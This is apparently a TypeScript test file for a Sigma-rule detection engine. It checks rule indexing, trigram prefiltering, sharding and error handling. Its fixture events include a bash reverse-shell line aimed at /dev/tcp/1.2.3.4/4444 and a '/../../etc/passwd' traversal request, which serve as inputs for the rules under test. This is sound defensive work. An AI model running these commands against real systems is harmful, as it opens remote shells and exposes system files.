// The Detector: logsource and event-code indexing, sharding, statistics and resilience to bad events.
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Event } from '../core/proto.js';
import { Detector, ruleShard } from './detector.js';
import { eventsFromDocs } from './hunt.js';
import { loadRules } from './sigma/loader.js';
import { rulesFrom } from './testdata/helpers.js';

const PACK = join(dirname(fileURLToPath(import.meta.url)), 'testdata', 'rules');

const RULES = `
title: Failed logon
id: 55555555-0000-4000-8000-000000000001
logsource: {product: windows, service: security}
detection:
    selection: {EventID: 4625}
    condition: selection
---
title: Explicit credentials
id: 55555555-0000-4000-8000-000000000002
logsource: {product: windows, service: security}
detection:
    selection: {EventID: 4648}
    condition: selection
---
title: Any security event with a target user
id: 55555555-0000-4000-8000-000000000003
logsource: {product: windows, service: security}
detection:
    selection: {TargetUserName|exists: true}
    condition: selection
---
title: Web scanner
id: 55555555-0000-4000-8000-000000000004
logsource: {category: webserver}
detection:
    selection: {cs-user-agent|contains: nikto}
    condition: selection
`;

const security = (code: number): Record<string, unknown> => ({ 'event.code': String(code), 'event.module': 'windows', winlog: { channel: 'Security', event_data: { TargetUserName: 'bob' } } });

describe('rule index', () => {
  it('tests an event only against rules of its logsource and event code', () => {
    const d = new Detector(rulesFrom(RULES));
    const alerts = d.evaluate(eventsFromDocs([security(4625), { 'url.original': '/', 'user_agent.original': 'Mozilla' }]));
    expect(alerts.map((a) => a.rule_title)).toEqual(['Failed logon', 'Any security event with a target user']);
    const s = d.stats();
    expect(s.rules['55555555-0000-4000-8000-000000000001']).toEqual({ hits: 1, evaluations: 1 });
    // 4648 is never tried on a 4625 event, nor the Windows rules on the web event.
    expect(s.rules['55555555-0000-4000-8000-000000000002']).toEqual({ hits: 0, evaluations: 0 });
    // The web rule needs 'nikto' in the user agent: a trigram of it is missing from 'Mozilla', so it is not tried.
    expect(s.rules['55555555-0000-4000-8000-000000000004']).toEqual({ hits: 0, evaluations: 0 });
    expect(s).toMatchObject({ events: 2, evaluations: 2, alerts: 2, errors: 0 });
  });

  it('still tries a rule whose values the event may hold', () => {
    const d = new Detector(rulesFrom(RULES));
    expect(d.evaluate(eventsFromDocs([{ 'url.original': '/', 'user_agent.original': 'Mozilla/5.00 (Nikto/2.1.6)' }])).map((a) => a.rule_title)).toEqual(['Web scanner']);
    expect(d.stats().rules['55555555-0000-4000-8000-000000000004']).toEqual({ hits: 1, evaluations: 1 });
  });

  it('tries a contains rule only on events holding its rarest few trigrams, not just the rarest one', () => {
    const d = new Detector(rulesFrom(`
title: Shell from Office
id: 55555555-0000-4000-8000-000000000005
logsource: {category: process_creation, product: windows}
detection:
    selection: {CommandLine|contains: 'cmd.exe /c whoami'}
    condition: selection
`));
    const proc = (commandLine: string): Record<string, unknown> => ({ 'event.category': ['process'], 'event.type': ['start'], 'host.os.family': 'windows', 'process.command_line': commandLine });
    // '.ex', the rarest trigram of the value by character frequency, is in every one of these.
    const alerts = d.evaluate(eventsFromDocs([proc('C:\\Windows\\explorer.exe'), proc('"chrome.exe" --type=renderer'), proc('cmd.exe /c whoami /all')]));
    expect(alerts.map((a) => a.rule_title)).toEqual(['Shell from Office']);
    expect(d.stats().rules['55555555-0000-4000-8000-000000000005']).toEqual({ hits: 1, evaluations: 1 });
  });

  it('raises the same alerts with and without the prefilter, for any values and texts', () => {
    // Few letters, so that texts hold some trigrams of a value and not others, and values share them.
    const word = fc.array(fc.constantFrom('a', 'b', 'c', '.', '\\', ' '), { minLength: 1, maxLength: 7 }).map((x) => x.join(''));
    const rule = fc.record({ op: fc.constantFrom('contains', 'startswith', 'endswith', 'contains|all'), values: fc.array(word, { minLength: 1, maxLength: 3 }) });
    fc.assert(fc.property(fc.array(rule, { minLength: 1, maxLength: 6 }), fc.array(fc.array(word, { maxLength: 4 }).map((x) => x.join('')), { minLength: 1, maxLength: 8 }), (rules, texts) => {
      const yaml = rules.map((r, i) => `title: r${i}
id: 55555555-0000-4000-8000-${String(100 + i).padStart(12, '0')}
logsource: {category: process_creation, product: windows}
detection:
    selection: {'CommandLine|${r.op}': ${JSON.stringify(r.values)}}
    condition: selection
`).join('---\n');
      const docs = texts.map((t) => ({ 'event.category': ['process'], 'event.type': ['start'], 'host.os.family': 'windows', 'process.command_line': t }));
      const run = (prefilter: boolean): string[] => new Detector(rulesFrom(yaml), { prefilter, alertAll: true }).evaluate(eventsFromDocs(docs)).map((a) => `${a.rule_title} ${a.event_ids!.join(',')}`).sort();
      expect(run(true)).toEqual(run(false));
    }), { numRuns: 300 });
  });

  it('measures time per rule when profiling', () => {
    const d = new Detector(rulesFrom(RULES), { profile: true });
    d.evaluate(eventsFromDocs([security(4625)]));
    expect(d.stats().rules['55555555-0000-4000-8000-000000000001']!.timeMs).toBeGreaterThanOrEqual(0);
    expect(new Detector(rulesFrom(RULES)).stats().rules['55555555-0000-4000-8000-000000000001']!.timeMs).toBeUndefined();
  });
});

describe('levels', () => {
  const INFO = `
title: Process started
id: 55555555-0000-4000-8000-000000000020
level: informational
logsource: {category: process_creation}
detection:
    selection: {Image|endswith: .exe}
    condition: selection
`;
  const proc = { 'event.category': ['process'], 'event.type': ['start'], 'process.executable': 'C:\\x\\a.exe' };

  it('keeps informational rules for enrichment: no alert and no evaluation by default', () => {
    const d = new Detector(rulesFrom(INFO));
    expect(d.evaluate(eventsFromDocs([proc]))).toEqual([]);
    expect(d.quiet).toEqual(['55555555-0000-4000-8000-000000000020']);
    expect(d.size).toBe(0);
  });

  it('alerts on them when minAlertLevel lets them through', () => {
    const d = new Detector(rulesFrom(INFO), { minAlertLevel: 'informational' });
    expect(d.evaluate(eventsFromDocs([proc])).map((a) => a.level)).toEqual(['informational']);
  });
});

describe('sharding', () => {
  const { rules } = loadRules([PACK]);
  const fail = (s: number): Record<string, unknown> => ({ '@timestamp': `2025-06-01T10:00:${String(s).padStart(2, '0')}Z`, 'process.name': 'sshd', 'event.module': 'syslog', 'event.category': ['authentication'], 'event.outcome': s === 30 ? 'success' : 'failure', 'source.ip': '198.51.100.9' });
  const docs = [
    { 'url.original': '/../../etc/passwd', 'user_agent.original': 'nikto', 'http.response.status_code': 500 },
    { 'host.os.family': 'linux', 'event.category': ['process'], 'event.type': ['start'], 'process.command_line': 'bash -i >& /dev/tcp/1.2.3.4/4444' },
    ...[0, 1, 2, 3, 4, 30].map(fail),
  ];
  const all = new Detector(rules).evaluate(eventsFromDocs(docs)).map((a) => a.id ?? '').sort();

  it('splits the rules so that N shards together raise exactly the alerts of one detector', () => {
    for (const count of [2, 3, 5]) {
      const union: string[] = [];
      for (let index = 0; index < count; index++) union.push(...new Detector(rules, { shard: { index, count } }).evaluate(eventsFromDocs(docs)).map((a) => a.id ?? ''));
      expect(union.sort()).toEqual(all);
    }
    expect(all.length).toBe(5);
  });

  it('evaluates a correlation, and what it rests on, in the shard of the correlation', () => {
    const chain = '3a1b2c3d-0002-4a00-8000-000000000001';
    const owner = ruleShard(chain, 4);
    const alerts = new Detector(rules, { shard: { index: owner, count: 4 } }).evaluate(eventsFromDocs(docs));
    expect(alerts.filter((a) => a.rule_id === chain)).toHaveLength(1);
  });

  it('rejects a shard outside its count', () => {
    expect(() => new Detector(rules, { shard: { index: 3, count: 3 } })).toThrow(RangeError);
  });
});

describe('resilience', () => {
  it('counts an event it cannot evaluate and goes on with the batch', () => {
    const d = new Detector(rulesFrom(RULES));
    const poison = new Proxy({}, { get() { throw new Error('boom'); } }) as Event;
    const alerts = d.evaluate([poison, ...eventsFromDocs([security(4625)])]);
    expect(alerts).toHaveLength(2);
    expect(d.stats().errors).toBe(1);
  });

  it('does not load a rule whose placeholder has no values, and says so', () => {
    const d = new Detector(rulesFrom(`
title: Admin logon
id: 55555555-0000-4000-8000-000000000010
logsource: {product: windows, service: security}
detection:
    selection: {TargetUserName|expand: '%Administrators%'}
    condition: selection
`));
    expect(d.size).toBe(0);
    expect(d.problems[0]!.message).toMatch(/placeholder %Administrators% has no values/);
  });
});
